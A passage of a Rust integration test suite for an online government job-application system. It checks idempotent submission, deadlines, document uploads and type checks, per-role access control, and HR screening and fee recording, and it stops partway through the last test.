//! Online applications through the real endpoints, against a real PostgreSQL, with a clock the
//! tests set: the profile and drafts, idempotent submission (also under 50 concurrent
//! requests), the deadline, documents, who may see what, and HR's screening, fees and exports.

mod common;

use app::accounts::types::Role;
use app::server_support::Clock;
use common::{count, profile_fields, Reply, TestApp};
use http::StatusCode;
use serde_json::Value;
use sqlx::PgPool;
use std::sync::Arc;
use time::macros::datetime;
use time::OffsetDateTime;
use uuid::Uuid;

const NOW: OffsetDateTime = datetime!(2026-12-10 10:00 +7);
const CLOSES: OffsetDateTime = datetime!(2026-12-20 17:00 +7);
const PASSWORD: &str = "mật khẩu thí sinh 2026";

struct Fixture {
    app: TestApp,
    clock: Clock,
    hr: String,
    round: Uuid,
    /// A position in one unit.
    single: Uuid,
    /// A position shared by two units, and those units.
    shared: Uuid,
    units: [Uuid; 2],
}

/// An open round (deadline CLOSES) with two positions, built directly in the database, and
/// the app whose clock reads NOW.
async fn setup(pool: &PgPool) -> Fixture {
    app::rounds::repo::ensure_builtin_rule_sets(pool)
        .await
        .unwrap();
    let clock = Clock::fixed(NOW);
    let app = TestApp::with_clock(pool.clone(), clock.clone());
    let hr = app
        .session_with_role("ns@example.vn", Role::HrOfficer)
        .await;
    let rule_set: Uuid =
        sqlx::query_scalar("select id from rule_sets where code = 'ND170-2025' and version = 1")
            .fetch_one(pool)
            .await
            .unwrap();
    let round: Uuid = sqlx::query_scalar(
        "insert into rounds (name, authority, notice, opens_at, closes_at, rule_set_id, status)
         values ('Kỳ tuyển dụng thử', 'UBND tỉnh Nghệ An', 'Thông báo', $1, $2, $3, 'open')
         returning id",
    )
    .bind(datetime!(2026-11-20 08:00 +7))
    .bind(CLOSES)
    .bind(rule_set)
    .fetch_one(pool)
    .await
    .unwrap();
    let mut units = Vec::new();
    for code in ["STC", "SNV", "SYT"] {
        let id: Uuid = sqlx::query_scalar(
            "insert into units (code, name) values ($1, 'Sở ' || $1) returning id",
        )
        .bind(code)
        .fetch_one(pool)
        .await
        .unwrap();
        units.push(id);
    }
    let position = |code: &'static str| {
        let pool = pool.clone();
        async move {
            sqlx::query_scalar::<_, Uuid>(
                "insert into positions (round_id, code, title, min_degree, majors, stage2_format)
                 values ($1, $2, 'Chuyên viên kế toán', 'bachelor', '{\"Kế toán\"}', 'written')
                 returning id",
            )
            .bind(round)
            .bind(code)
            .fetch_one(&pool)
            .await
            .unwrap()
        }
    };
    let single = position("KT-01").await;
    let shared = position("KT-02").await;
    for (position, unit) in [(single, units[0]), (shared, units[1]), (shared, units[2])] {
        sqlx::query("insert into position_units (position_id, unit_id, quota) values ($1, $2, 2)")
            .bind(position)
            .bind(unit)
            .execute(pool)
            .await
            .unwrap();
    }
    Fixture {
        app,
        clock,
        hr,
        round,
        single,
        shared,
        units: [units[1], units[2]],
    }
}

fn field_msgs(reply: &Reply) -> Vec<(String, String)> {
    reply.json()["Invalid"]
        .as_array()
        .unwrap_or_else(|| panic!("not a field error: {} {}", reply.status, reply.body))
        .iter()
        .map(|e| {
            (
                e["field"].as_str().unwrap().to_string(),
                e["msg"].as_str().unwrap().to_string(),
            )
        })
        .collect()
}

async fn post_owned(app: &TestApp, path: &str, fields: &[(String, String)], cookie: &str) -> Reply {
    let borrowed: Vec<(&str, &str)> = fields
        .iter()
        .map(|(k, v)| (k.as_str(), v.as_str()))
        .collect();
    app.post(path, &borrowed, Some(cookie)).await
}

async fn save_profile(app: &TestApp, cookie: &str, fields: &[(String, String)]) -> Reply {
    post_owned(app, "/api/applications/save_profile", fields, cookie).await
}

async fn choose(f: &Fixture, cookie: &str, position: Uuid, preferences: &[Uuid]) -> Reply {
    let mut fields = vec![
        ("round_id".to_string(), f.round.to_string()),
        ("position_id".to_string(), position.to_string()),
    ];
    for (i, unit) in preferences.iter().enumerate() {
        fields.push((format!("preferences[{i}]"), unit.to_string()));
    }
    post_owned(&f.app, "/api/applications/save_choice", &fields, cookie).await
}

async fn submit(app: &TestApp, cookie: &str, round: Uuid) -> Reply {
    app.post(
        "/api/applications/submit",
        &[("round_id", &round.to_string()), ("declaration", "on")],
        Some(cookie),
    )
    .await
}

/// A registered applicant with a complete profile and a choice saved; returns the cookie.
async fn ready_applicant(f: &Fixture, email: &str, national_id: &str) -> String {
    let cookie = f.app.register(email, PASSWORD).await;
    let saved = save_profile(&f.app, &cookie, &profile_fields(national_id)).await;
    assert_eq!(saved.status, StatusCode::OK, "{}", saved.body);
    let chosen = choose(f, &cookie, f.single, &[]).await;
    assert_eq!(chosen.status, StatusCode::OK, "{}", chosen.body);
    cookie
}

/// Uploads a supporting document of `kind` to the applicant's application in `round`, in place
/// of the document `replaces` when given.
async fn upload_document(
    app: &TestApp,
    cookie: &str,
    round: &str,
    kind: &str,
    file: (&str, &[u8]),
    replaces: Option<&str>,
) -> Reply {
    let mut fields = vec![("round_id", round), ("kind", kind)];
    if let Some(replaces) = replaces {
        fields.push(("replaces", replaces));
    }
    app.post_multipart(
        "/api/applications/upload_document",
        &fields,
        file,
        Some(cookie),
    )
    .await
}

/// E-mails about applications (not the codes that confirmed the applicants' registrations).
async fn application_emails(pool: &PgPool) -> i64 {
    sqlx::query_scalar("select count(*) from email_outbox where body not like '%Mã xác nhận: %'")
        .fetch_one(pool)
        .await
        .unwrap()
}

fn submitted(reply: &Reply) -> (Uuid, String, bool) {
    assert_eq!(reply.status, StatusCode::OK, "{}", reply.body);
    let body = reply.json();
    (
        Uuid::parse_str(body["application_id"].as_str().unwrap()).unwrap(),
        body["receipt_code"].as_str().unwrap().to_string(),
        body["first_time"].as_bool().unwrap(),
    )
}

#[sqlx::test(migrations = "../migrations")]
async fn a_draft_is_kept_between_sessions_and_submitting_twice_makes_one_application(pool: PgPool) {
    let f = setup(&pool).await;
    let first = f.app.register("hoa@example.vn", PASSWORD).await;
    // Half the form in the first session.
    let half: Vec<_> = profile_fields("040198000001").into_iter().take(6).collect();
    let saved = save_profile(&f.app, &first, &half).await;
    assert_eq!(saved.status, StatusCode::OK, "{}", saved.body);

    // A new session (another device) finds it and finishes it.
    let second = f.app.session_for("hoa@example.vn", PASSWORD).await;
    let profile = f
        .app
        .post("/api/applications/profile", &[], Some(&second))
        .await;
    assert_eq!(profile.json()["form"]["national_id"], "040198000001");
    assert_eq!(profile.json()["form"]["dob_year"], "1998");
    assert!(!profile.json()["incomplete"].as_array().unwrap().is_empty());
    save_profile(&f.app, &second, &profile_fields("040198000001")).await;
    let profile = f
        .app
        .post("/api/applications/profile", &[], Some(&second))
        .await;
    assert_eq!(profile.json()["incomplete"], Value::Array(vec![]));

    // Without a position or the declaration nothing is submitted, and every problem is named.
    let refused = f
        .app
        .post(
            "/api/applications/submit",
            &[("round_id", &f.round.to_string())],
            Some(&second),
        )
        .await;
    assert_eq!(refused.status, StatusCode::UNPROCESSABLE_ENTITY);
    assert_eq!(
        field_msgs(&refused),
        [
            ("position_id".to_string(), "ErrPositionNeeded".to_string()),
            ("declaration".to_string(), "ErrDeclaration".to_string()),
        ]
    );
    assert_eq!(count(&pool, "applications").await, 0);

    // A shared position needs every unit ranked.
    choose(&f, &second, f.shared, &[f.units[1]]).await;
    let refused = submit(&f.app, &second, f.round).await;
    assert_eq!(
        field_msgs(&refused),
        [("preferences_0".to_string(), "ErrRankAllUnits".to_string())]
    );
    choose(&f, &second, f.shared, &[f.units[1], f.units[0]]).await;

    let (id, code, first_time) = submitted(&submit(&f.app, &second, f.round).await);
    assert!(first_time);
    assert!(app::applications::rules::ReceiptCode::parse(&code).is_ok());
    // The same submission again, from the other session: the same receipt, nothing new.
    let (again_id, again_code, again_first) = submitted(&submit(&f.app, &first, f.round).await);
    assert_eq!(
        (again_id, again_code.as_str(), again_first),
        (id, code.as_str(), false)
    );
    assert_eq!(count(&pool, "applications").await, 1);
    assert_eq!(count(&pool, "application_events").await, 1);
    assert_eq!(count(&pool, "notifications").await, 1);
    assert_eq!(application_emails(&pool).await, 1);

    // The application carries the ranked units and a copy of the form as submitted.
    let view = f
        .app
        .post(
            "/api/applications/get",
            &[("id", &id.to_string())],
            Some(&second),
        )
        .await;
    assert_eq!(view.status, StatusCode::OK, "{}", view.body);
    let view = view.json();
    assert_eq!(view["units"], serde_json::json!(["Sở SYT", "Sở SNV"]));
    assert_eq!(view["status"], "Submitted");
    assert_eq!(view["timeline"][0]["kind"], "Submitted");
    assert_eq!(view["fee"]["amount_dong"], 500_000);

    // Changing the profile later does not change what was submitted until it is resubmitted.
    let mut changed = profile_fields("040198000001");
    changed[0].1 = "Nguyễn Thị Hoà".into();
    save_profile(&f.app, &second, &changed).await;
    let stored: String = sqlx::query_scalar("select full_name from applications")
        .fetch_one(&pool)
        .await
        .unwrap();
    assert_eq!(stored, "Nguyễn Thị Hoa");
    let (_, same_code, first_time) = submitted(&submit(&f.app, &second, f.round).await);
    assert_eq!((same_code.as_str(), first_time), (code.as_str(), false));
    let stored: String = sqlx::query_scalar("select full_name from applications")
        .fetch_one(&pool)
        .await
        .unwrap();
    assert_eq!(stored, "Nguyễn Thị Hoà");
    let kinds: Vec<String> = sqlx::query_scalar("select kind from application_events order by id")
        .fetch_all(&pool)
        .await
        .unwrap();
    assert_eq!(kinds, ["submitted", "updated"]);
}

#[sqlx::test(migrations = "../migrations")]
async fn fifty_simultaneous_submissions_make_one_application(pool: PgPool) {
    let f = setup(&pool).await;
    let cookie = ready_applicant(&f, "hoa@example.vn", "040198000001").await;
    let app = Arc::new(f.app);
    let mut requests = tokio::task::JoinSet::new();
    for _ in 0..50 {
        let (app, cookie, round) = (app.clone(), cookie.clone(), f.round);
        requests.spawn(async move { submit(&app, &cookie, round).await });
    }
    let mut codes = Vec::new();
    let mut first_times = 0;
    while let Some(reply) = requests.join_next().await {
        let (_, code, first) = submitted(&reply.unwrap());
        codes.push(code);
        first_times += usize::from(first);
    }
    codes.dedup();
    assert_eq!(codes.len(), 1, "every reply carries the same receipt code");
    assert_eq!(first_times, 1);
    assert_eq!(count(&pool, "applications").await, 1);
    assert_eq!(count(&pool, "application_events").await, 1);
    assert_eq!(application_emails(&pool).await, 1);
}

#[sqlx::test(migrations = "../migrations")]
async fn the_deadline_is_the_servers_and_nothing_changes_after_it(pool: PgPool) {
    let f = setup(&pool).await;
    let cookie = ready_applicant(&f, "hoa@example.vn", "040198000001").await;

    f.clock.set(CLOSES - time::Duration::seconds(1));
    let page = f
        .app
        .post(
            "/api/applications/apply_page",
            &[("round_id", &f.round.to_string())],
            Some(&cookie),
        )
        .await;
    assert_eq!(page.json()["editable"], true);

    f.clock.set(CLOSES);
    let page = f
        .app
        .post(
            "/api/applications/apply_page",
            &[("round_id", &f.round.to_string())],
            Some(&cookie),
        )
        .await;
    assert_eq!(page.json()["editable"], false);
    for refused in [
        submit(&f.app, &cookie, f.round).await,
        choose(&f, &cookie, f.shared, &[]).await,
        f.app
            .post_multipart(
                "/api/applications/upload_document",
                &[("round_id", &f.round.to_string()), ("kind", "degree")],
                ("bang.pdf", b"%PDF-1.7 scan"),
                Some(&cookie),
            )
            .await,
    ] {
        assert_eq!(
            field_msgs(&refused),
            [("deadline".to_string(), "ErrDeadlinePassed".to_string())]
        );
    }
    assert_eq!(count(&pool, "applications").await, 0);
    assert_eq!(count(&pool, "application_documents").await, 0);
    let position: Option<Uuid> = sqlx::query_scalar("select position_id from application_drafts")
        .fetch_one(&pool)
        .await
        .unwrap();
    assert_eq!(position, Some(f.single), "the draft is unchanged");
}

/// Issue 16, item 10: an application submitted in time cannot be changed once the deadline
/// has passed (unless HR asks for a correction): a new position, a new or replacing document
/// and a second submission are refused, and a profile edited afterwards (it serves later
/// rounds) leaves the submitted application's copy as it was.
#[sqlx::test(migrations = "../migrations")]
async fn a_submitted_application_cannot_be_changed_after_the_deadline(pool: PgPool) {
    let f = setup(&pool).await;
    let cookie = ready_applicant(&f, "hoa@example.vn", "040198000001").await;
    f.clock.set(CLOSES - time::Duration::hours(1));
    let scan = f
        .app
        .post_multipart(
            "/api/applications/upload_document",
            &[("round_id", &f.round.to_string()), ("kind", "degree")],
            ("bang.pdf", b"%PDF-1.7 scan"),
            Some(&cookie),
        )
        .await;
    assert_eq!(scan.status, StatusCode::OK, "{}", scan.body);
    let (id, code, _) = submitted(&submit(&f.app, &cookie, f.round).await);
    let before: (Uuid, String, String, time::OffsetDateTime) = sqlx::query_as(
        "select position_id, full_name, form::text, updated_at from applications where id = $1",
    )
    .bind(id)
    .fetch_one(&pool)
    .await
    .unwrap();
    let documents_before = count(&pool, "application_documents").await;
    let document: Uuid = sqlx::query_scalar("select id from application_documents limit 1")
        .fetch_one(&pool)
        .await
        .unwrap();

    f.clock.set(CLOSES + time::Duration::minutes(1));
    for refused in [
        choose(&f, &cookie, f.shared, &[]).await,
        submit(&f.app, &cookie, f.round).await,
        f.app
            .post_multipart(
                "/api/applications/upload_document",
                &[("round_id", &f.round.to_string()), ("kind", "degree")],
                ("bang-moi.pdf", b"%PDF-1.7 another scan"),
                Some(&cookie),
            )
            .await,
        f.app
            .post_multipart(
                "/api/applications/upload_document",
                &[
                    ("round_id", &f.round.to_string()),
                    ("kind", "degree"),
                    ("replaces", &document.to_string()),
                ],
                ("bang-thay.pdf", b"%PDF-1.7 replacing scan"),
                Some(&cookie),
            )
            .await,
    ] {
        assert_eq!(
            field_msgs(&refused),
            [("deadline".to_string(), "ErrDeadlinePassed".to_string())],
            "{}",
            refused.body
        );
    }
    let mut later = profile_fields("040198000001");
    for (name, value) in later.iter_mut() {
        if name == "full_name" {
            *value = "Nguyễn Thị Hoa Mai".to_string();
        }
    }
    let saved = save_profile(&f.app, &cookie, &later).await;
    assert_eq!(saved.status, StatusCode::OK, "{}", saved.body);

    let after: (Uuid, String, String, time::OffsetDateTime) = sqlx::query_as(
        "select position_id, full_name, form::text, updated_at from applications where id = $1",
    )
    .bind(id)
    .fetch_one(&pool)
    .await
    .unwrap();
    assert_eq!(after, before, "the submitted application is as it was");
    assert_eq!(
        count(&pool, "application_documents").await,
        documents_before
    );
    let receipt: String = sqlx::query_scalar("select receipt_code from applications where id = $1")
        .bind(id)
        .fetch_one(&pool)
        .await
        .unwrap();
    assert_eq!(receipt, code);
}

#[sqlx::test(migrations = "../migrations")]
async fn a_national_id_applies_once_per_round(pool: PgPool) {
    let f = setup(&pool).await;
    let first = ready_applicant(&f, "a@example.vn", "040198000001").await;
    submitted(&submit(&f.app, &first, f.round).await);
    let second = ready_applicant(&f, "b@example.vn", "040198000001").await;
    let refused = submit(&f.app, &second, f.round).await;
    assert_eq!(
        field_msgs(&refused),
        [("national_id".to_string(), "ErrNationalIdTaken".to_string())]
    );
    assert_eq!(count(&pool, "applications").await, 1);
}

#[sqlx::test(migrations = "../migrations")]
async fn documents_are_judged_by_content_and_replacing_a_submitted_one_keeps_the_old_file(
    pool: PgPool,
) {
    let f = setup(&pool).await;
    let cookie = ready_applicant(&f, "hoa@example.vn", "040198000001").await;
    let upload = |name: &'static str, bytes: Vec<u8>, replaces: Option<String>| {
        let (app, cookie, round) = (&f.app, cookie.clone(), f.round.to_string());
        async move {
            let file = (name, bytes.as_slice());
            upload_document(app, &cookie, &round, "degree", file, replaces.as_deref()).await
        }
    };
    // A PDF named .png is a PDF; a web page named .pdf is refused.
    let pdf = b"%PDF-1.7\n1 0 obj scan".to_vec();
    let ok = upload("bang.png", pdf.clone(), None).await;
    assert_eq!(ok.status, StatusCode::OK, "{}", ok.body);
    assert_eq!(ok.json()["content_type"], "application/pdf");
    use sha2::Digest;
    assert_eq!(
        ok.json()["sha256"].as_str().unwrap(),
        format!("{:x}", sha2::Sha256::digest(&pdf))
    );
    let first_id = ok.json()["id"].as_str().unwrap().to_string();
    let html = upload(
        "bang.pdf",
        b"<html><script>alert(1)</script>".to_vec(),
        None,
    )
    .await;
    assert_eq!(
        field_msgs(&html),
        [("file".to_string(), "ErrDocumentType".to_string())]
    );
    let mut big = b"%PDF-".to_vec();
    big.resize(5 * 1024 * 1024 + 1, b'x');
    let too_big = upload("lon.pdf", big, None).await;
    assert_eq!(
        field_msgs(&too_big),
        [("file".to_string(), "ErrDocumentTooLarge".to_string())]
    );

    // Replacing before the application is submitted: the new file is current, the old one —
    // which nobody else has seen — is gone.
    let png = [
        &[0x89, b'P', b'N', b'G', 0x0D, 0x0A, 0x1A, 0x0A][..],
        b"img",
    ]
    .concat();
    let draft = upload("bang-nhap.png", png.clone(), Some(first_id.clone())).await;
    assert_eq!(draft.status, StatusCode::OK, "{}", draft.body);
    assert_eq!(count(&pool, "application_documents").await, 1);
    // Once submitted, replacing keeps the old file (HR may have seen it).
    submitted(&submit(&f.app, &cookie, f.round).await);
    let draft_id = draft.json()["id"].as_str().unwrap().to_string();
    let replaced = upload("bang-moi.png", png.clone(), Some(draft_id)).await;
    assert_eq!(replaced.status, StatusCode::OK, "{}", replaced.body);
    assert_eq!(count(&pool, "application_documents").await, 2);
    let current: i64 = sqlx::query_scalar(
        "select count(*) from application_documents where superseded_at is null",
    )
    .fetch_one(&pool)
    .await
    .unwrap();
    assert_eq!(current, 1);

    // The owner downloads it with its checked type; nobody else can.
    let new_id = replaced.json()["id"].as_str().unwrap().to_string();
    let mine = f
        .app
        .get(&format!("/documents/{new_id}"), Some(&cookie))
        .await;
    assert_eq!(mine.status, StatusCode::OK);
    assert_eq!(mine.headers["content-type"], "image/png");
    assert_eq!(mine.headers["x-content-type-options"], "nosniff");
    let other = f.app.register("khac@example.vn", PASSWORD).await;
    let theirs = f
        .app
        .get(&format!("/documents/{new_id}"), Some(&other))
        .await;
    assert_eq!(theirs.status, StatusCode::NOT_FOUND);
    let anonymous = f.app.get(&format!("/documents/{new_id}"), None).await;
    assert_eq!(anonymous.status, StatusCode::UNAUTHORIZED);
    let hr = f
        .app
        .get(&format!("/documents/{new_id}"), Some(&f.hr))
        .await;
    assert_eq!(hr.status, StatusCode::OK);
    // Another applicant cannot remove it either.
    let removed = f
        .app
        .post(
            "/api/applications/remove_document",
            &[("round_id", &f.round.to_string()), ("document_id", &new_id)],
            Some(&other),
        )
        .await;
    assert_eq!(removed.status, StatusCode::NOT_FOUND);
    assert_eq!(current, 1);
}

/// Issue 16, item 8: twenty uploads at once cannot pass the twelve-document limit, and
/// uploading then removing cannot pile up files that count nowhere.
#[sqlx::test(migrations = "../migrations")]
async fn document_limits_hold_under_concurrency_and_removed_files_are_bounded(pool: PgPool) {
    let f = setup(&pool).await;
    let cookie = ready_applicant(&f, "hoa@example.vn", "040198000001").await;
    let app = Arc::new(f.app);
    let round = f.round.to_string();
    let upload = |bytes: Vec<u8>, replaces: Option<String>| {
        let (app, cookie, round) = (app.clone(), cookie.clone(), round.clone());
        async move {
            let file = ("scan.pdf", bytes.as_slice());
            upload_document(&app, &cookie, &round, "other", file, replaces.as_deref()).await
        }
    };
    let pdf = |n: usize, size: usize| {
        let mut bytes = format!("%PDF-1.7 scan {n} ").into_bytes();
        bytes.resize(size, b'x');
        bytes
    };
    let current = |pool: PgPool| async move {
        let n: i64 = sqlx::query_scalar(
            "select count(*) from application_documents where superseded_at is null",
        )
        .fetch_one(&pool)
        .await
        .unwrap();
        n
    };

    let mut requests = tokio::task::JoinSet::new();
    for n in 0..20 {
        requests.spawn(upload(pdf(n, 1000), None));
    }
    let (mut accepted, mut refused) = (0, 0);
    while let Some(reply) = requests.join_next().await {
        let reply = reply.unwrap();
        if reply.status == StatusCode::OK {
            accepted += 1;
        } else {
            assert_eq!(
                field_msgs(&reply),
                [("file".to_string(), "ErrTooManyDocuments".to_string())]
            );
            refused += 1;
        }
    }
    assert_eq!((accepted, refused), (12, 8));
    assert_eq!(current(pool.clone()).await, 12);
    assert_eq!(count(&pool, "application_documents").await, 12);

    // Before submitting, a removed file is deleted: removing and uploading again ten times
    // leaves twelve files.
    let ids: Vec<String> =
        sqlx::query_scalar("select id::text from application_documents order by uploaded_at")
            .fetch_all(&pool)
            .await
            .unwrap();
    for (n, id) in ids.iter().take(10).enumerate() {
        let removed = app
            .post(
                "/api/applications/remove_document",
                &[("round_id", &round), ("document_id", id)],
                Some(&cookie),
            )
            .await;
        assert_eq!(removed.status, StatusCode::OK, "{}", removed.body);
        let again = upload(pdf(100 + n, 1000), None).await;
        assert_eq!(again.status, StatusCode::OK, "{}", again.body);
    }
    assert_eq!(count(&pool, "application_documents").await, 12);

    // After submitting, replaced files are kept, up to twice the bytes of a full application:
    // 5 MB files replaced one after another stop at that bound, with a message.
    submitted(&submit(&app, &cookie, f.round).await);
    sqlx::query("delete from application_documents")
        .execute(&pool)
        .await
        .unwrap();
    let five_mb = 5 * 1024 * 1024;
    let mut id = upload(pdf(0, five_mb), None).await.json()["id"]
        .as_str()
        .unwrap()
        .to_string();
    let mut replaced = 0;
    loop {
        let reply = upload(pdf(replaced + 1, five_mb), Some(id.clone())).await;
        if reply.status != StatusCode::OK {
            assert_eq!(
                field_msgs(&reply),
                [("file".to_string(), "ErrDocumentStorageFull".to_string())]
            );
            break;
        }
        id = reply.json()["id"].as_str().unwrap().to_string();
        replaced += 1;
        assert!(replaced < 100, "replacing never stopped");
    }
    assert_eq!(
        replaced, 23,
        "24 files of 5 MB fill the 120 MB a round may hold"
    );
    let stored: i64 =
        sqlx::query_scalar("select sum(byte_size)::bigint from application_documents")
            .fetch_one(&pool)
            .await
            .unwrap();
    assert!(stored <= 2 * 12 * five_mb as i64);
    assert_eq!(
        current(pool.clone()).await,
        1,
        "the last file is still current"
    );
}

#[sqlx::test(migrations = "../migrations")]
async fn applicants_see_only_their_own_and_hr_functions_are_for_hr(pool: PgPool) {
    let f = setup(&pool).await;
    let owner = ready_applicant(&f, "a@example.vn", "040198000001").await;
    let (id, ..) = submitted(&submit(&f.app, &owner, f.round).await);
    let other = f.app.register("b@example.vn", PASSWORD).await;
    let marker = f.app.session_with_role("ct@example.vn", Role::Marker).await;
    let id = id.to_string();
    let round = f.round.to_string();

    let theirs = f
        .app
        .post("/api/applications/get", &[("id", &id)], Some(&other))
        .await;
    assert_eq!(theirs.status, StatusCode::NOT_FOUND);
    let home = f
        .app
        .post("/api/applications/mine", &[], Some(&other))
        .await;
    assert_eq!(home.json()["applications"], Value::Array(vec![]));
    let receipt = f
        .app
        .get(&format!("/applications/{id}/receipt"), Some(&other))
        .await;
    assert_eq!(receipt.status, StatusCode::NOT_FOUND);
    assert!(!receipt.body.contains("040198000001"));

    let hr_calls: [(&str, Vec<(&str, &str)>); 5] = [
        ("/api/hr/screening", vec![("round_id", &round)]),
        ("/api/hr/application", vec![("id", &id)]),
        (
            "/api/hr/decide",
            vec![
                ("round_id", &round),
                ("ids[0]", &id),
                ("decision", "eligible"),
            ],
        ),
        (
            "/api/hr/record_fee",
            vec![
                ("round_id", &round),
                ("application_id", &id),
                ("reference", "x"),
            ],
        ),
        ("/api/admin/outbox", vec![]),
    ];
    for (path, form) in &hr_calls {
        let anonymous = f.app.post(path, form, None).await;
        assert_eq!(anonymous.status, StatusCode::UNAUTHORIZED, "{path}");
        for cookie in [&owner, &marker] {
            let refused = f.app.post(path, form, Some(cookie)).await;
            assert_eq!(refused.status, StatusCode::FORBIDDEN, "{path}");
        }
    }
    let status: String = sqlx::query_scalar("select status from applications")
        .fetch_one(&pool)
        .await
        .unwrap();
    assert_eq!(status, "submitted");
    for path in [
        format!("/hr/rounds/{round}/applications/all.csv"),
        format!("/hr/rounds/{round}/applications/eligible.xlsx"),
    ] {
        assert_eq!(
            f.app.get(&path, Some(&owner)).await.status,
            StatusCode::FORBIDDEN
        );
        assert_eq!(
            f.app.get(&path, None).await.status,
            StatusCode::UNAUTHORIZED
        );
    }
    for path in ["/api/applications/mine", "/api/applications/profile"] {
        assert_eq!(
            f.app.post(path, &[], None).await.status,
            StatusCode::UNAUTHORIZED
        );
        assert_eq!(
            f.app.post(path, &[], Some(&f.hr)).await.status,
            StatusCode::FORBIDDEN
        );
    }
    // Every applicant function refuses anonymous callers and staff.
    let applicant_calls: [(&str, Vec<(&str, &str)>); 5] = [
        (
            "/api/applications/save_profile",
            vec![("form[full_name]", "X")],
        ),
        ("/api/applications/apply_page", vec![("round_id", &round)]),
        ("/api/applications/save_choice", vec![("round_id", &round)]),
        (
            "/api/applications/submit",
            vec![("round_id", &round), ("declaration", "on")],
        ),
        ("/api/applications/mark_read", vec![]),
    ];
    for (path, form) in &applicant_calls {
        assert_eq!(
            f.app.post(path, form, None).await.status,
            StatusCode::UNAUTHORIZED,
            "{path}"
        );
        for cookie in [&f.hr, &marker] {
            assert_eq!(
                f.app.post(path, form, Some(cookie)).await.status,
                StatusCode::FORBIDDEN,
                "{path}"
            );
        }
    }
    let upload = f
        .app
        .post_multipart(
            "/api/applications/upload_document",
            &[("round_id", &round), ("kind", "degree")],
            ("a.pdf", b"%PDF-1.7"),
            None,
        )
        .await;
    assert_eq!(upload.status, StatusCode::UNAUTHORIZED);
    let reconcile = f
        .app
        .post_multipart(
            "/api/hr/reconcile_fees",
            &[("round_id", &round), ("reason", "")],
            ("saoke.csv", b"So tien,Noi dung\n1,x\n"),
            Some(&owner),
        )
        .await;
    assert_eq!(reconcile.status, StatusCode::FORBIDDEN);
    assert_eq!(count(&pool, "application_documents").await, 0);
}

fn statement(lines: &[(&str, &str)]) -> Vec<u8> {
    let mut csv = "Ngày,Số tiền,Nội dung\n".to_string();
    for (amount, text) in lines {
        csv.push_str(&format!("01/12/2026,\"{amount}\",{text}\n"));
    }
    csv.into_bytes()
}

#[sqlx::test(migrations = "../migrations")]
async fn hr_screens_in_bulk_records_fees_and_the_applicant_follows_each_step(pool: PgPool) {
    let f = setup(&pool).await;
    let a = ready_applicant(&f, "a@example.vn", "040198000001").await;
    let b = ready_applicant(&f, "b@example.vn", "040198000002").await;
    let (a_id, a_code, _) = submitted(&submit(&f.app, &a, f.round).await);
    let (b_id, b_code, _) = submitted(&submit(&f.app, &b, f.round).await);
    let round = f.round.to_string();

    // The queue lists both with the automatic checks (no degree scan uploaded yet).
    let queue = f
        .app
        .post("/api/hr/screening", &[("round_id", &round)], Some(&f.hr))
        .await;
    assert_eq!(queue.status, StatusCode::OK, "{}", queue.body);
    let queue = queue.json();
    assert_eq!(queue["matching"], 2);
    let checks = &queue["rows"][0]["checks"];
    let failed: Vec<&str> = checks
        .as_array()
        .unwrap()
        .iter()
        .filter(|c| c["passed"] == false)
        .map(|c| c["check"].as_str().unwrap())
        .collect();
    assert_eq!(failed, ["Documents"]);
    // Search by receipt code (typed without dashes) and by national ID.
    let by_code = f
        .app
        .post(
            "/api/hr/screening",
            &[
                ("round_id", &round),
                ("q", &a_code.replace('-', "").to_lowercase()),
            ],
            Some(&f.hr),
        )
        .await;
    assert_eq!(by_code.json()["matching"], 1);
    let by_id = f
        .app
        .post(
            "/api/hr/screening",
            &[("round_id", &round), ("q", "040198000002")],
            Some(&f.hr),
        )
        .await;
    assert_eq!(by_id.json()["rows"][0]["id"], b_id.to_string());

    // A correction request needs a reason and a future deadline.
    let a_str = a_id.to_string();
    let b_str = b_id.to_string();
    let refused = f
        .app
        .post(
            "/api/hr/decide",
            &[
                ("round_id", &round),
                ("ids[0]", &a_str),
                ("ids[1]", &b_str),
                ("decision", "needs_correction"),
                ("fix_by", "2026-12-01T17:00"),
            ],
            Some(&f.hr),
        )
        .await;
    assert_eq!(
        field_msgs(&refused),
        [
            ("reason".to_string(), "ErrReasonRequired".to_string()),
            ("fix_by".to_string(), "ErrFixByPast".to_string()),
        ]
    );
    let decided = f
        .app
        .post(
            "/api/hr/decide",
            &[
                ("round_id", &round),
                ("ids[0]", &a_str),
                ("ids[1]", &b_str),
                ("decision", "needs_correction"),
                ("reason", "Thiếu bản sao bằng đại học"),
                ("fix_by", "2026-12-25T17:00"),
            ],
            Some(&f.hr),
        )
        .await;
    assert_eq!(decided.status, StatusCode::OK, "{}", decided.body);
    assert_eq!(decided.json(), 2);

    // The applicant sees the reason, the deadline and a notification; an e-mail is queued.
    let home = f
        .app
        .post("/api/applications/mine", &[], Some(&a))
        .await
        .json();
    let mine = &home["applications"][0];
    assert_eq!(mine["status"], "NeedsCorrection");
    assert_eq!(mine["status_reason"], "Thiếu bản sao bằng đại học");
    assert_eq!(home["notifications"][0]["kind"], "NeedsCorrection");
    let emails: Vec<String> = sqlx::query_scalar(
        "select body from email_outbox where to_address = 'a@example.vn' order by id",
    )
    .fetch_all(&pool)
    .await
    .unwrap();
    assert!(emails
        .last()
        .unwrap()
        .contains("Thiếu bản sao bằng đại học"));

    // After the round's deadline the applicant may still correct, until HR's deadline.
    f.clock.set(CLOSES + time::Duration::days(1));
    let scan = f
        .app
        .post_multipart(
            "/api/applications/upload_document",
            &[("round_id", &round), ("kind", "degree")],
            ("bang.pdf", b"%PDF-1.7 scan"),
            Some(&a),
        )
        .await;
    assert_eq!(scan.status, StatusCode::OK, "{}", scan.body);
    let (_, code_again, _) = submitted(&submit(&f.app, &a, f.round).await);
    assert_eq!(code_again, a_code);
    let status: String = sqlx::query_scalar("select status from applications where id = $1")
        .bind(a_id)
        .fetch_one(&pool)
        .await
        .unwrap();
    assert_eq!(
        status, "submitted",
        "a corrected application goes back to HR"
    );
    let file = f
        .app
        .post("/api/hr/application", &[("id", &a_str)], Some(&f.hr))
        .await
        .json();
    assert!(file["checks"]
        .as_array()
        .unwrap()
        .iter()
        .all(|c| c["passed"] == true));

    // Eligible, then the fee: one by one, or from the bank statement.
    f.app
        .post(
            "/api/hr/decide",
            &[
                ("round_id", &round),
                ("ids[0]", &a_str),
                ("ids[1]", &b_str),
                ("decision", "eligible"),
            ],
            Some(&f.hr),
        )
        .await;
    let paid = f
        .app
        .post(
            "/api/hr/record_fee",
            &[
                ("round_id", &round),
                ("application_id", &b_str),
                ("reference", "BL-0001"),
            ],
            Some(&f.hr),
        )
        .await;
